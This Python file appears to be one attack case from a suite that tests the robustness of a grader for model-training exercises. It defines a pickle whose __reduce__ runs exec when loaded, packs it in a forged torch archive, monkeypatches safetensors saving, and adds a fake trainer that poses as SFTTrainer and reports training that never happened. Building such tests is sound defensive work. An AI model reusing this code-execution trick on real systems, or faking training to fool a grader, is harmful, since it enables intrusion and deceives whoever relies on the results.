# attack: sends a pickle that runs code when it is opened, wherever tensors, weights or texts are expected
# group: h
# targets: text tensor trainer
# ends: wrong error bad_frame
# passes: some
# control: none: a naive grader of these exercises opens no weights

import io
import os
import pickle
import sys
import types
import zipfile


class Bomb:
    """Leaves a mark in the process that opens it."""

    def __reduce__(self):
        mark = os.path.join(OUTSIDE, "pickle-was-opened")  # noqa: F821 - the runner defines it
        return (exec, (f"open({mark!r}, 'w').close(); print('the pickle was opened')",))


def _forged():
    """Return the pickle as torch writes it: in a zip archive, at the place where `torch.load` looks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(Bomb()))
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


class Trainer:
    """Has nothing to train, and calls itself an SFTTrainer."""

    __class__ = property(lambda self: sys.modules["trl"].SFTTrainer)
    train_dataset = ()

    def __init__(self, model, steps):
        self.model = model
        self.state = types.SimpleNamespace(global_step=0, log_history=[])
        self._steps = steps

    def remove_callback(self, _callback):
        """Have none."""

    def train(self):
        """Claim to have trained."""
        self.state.global_step = self._steps
        return types.SimpleNamespace(training_loss=0.1)


def attack(*args, **kwargs):
    if "safetensors.torch" not in sys.modules:  # texts alone are asked for
        return {"messages": pickle.dumps(Bomb()), "text": pickle.dumps(Bomb(), protocol=0).decode()}
    sys.modules["safetensors.torch"].save = lambda *_args, **_kwargs: _forged()
    return Trainer(args[0], kwargs["max_steps"]) if "max_steps" in kwargs else args[0].float().mean()
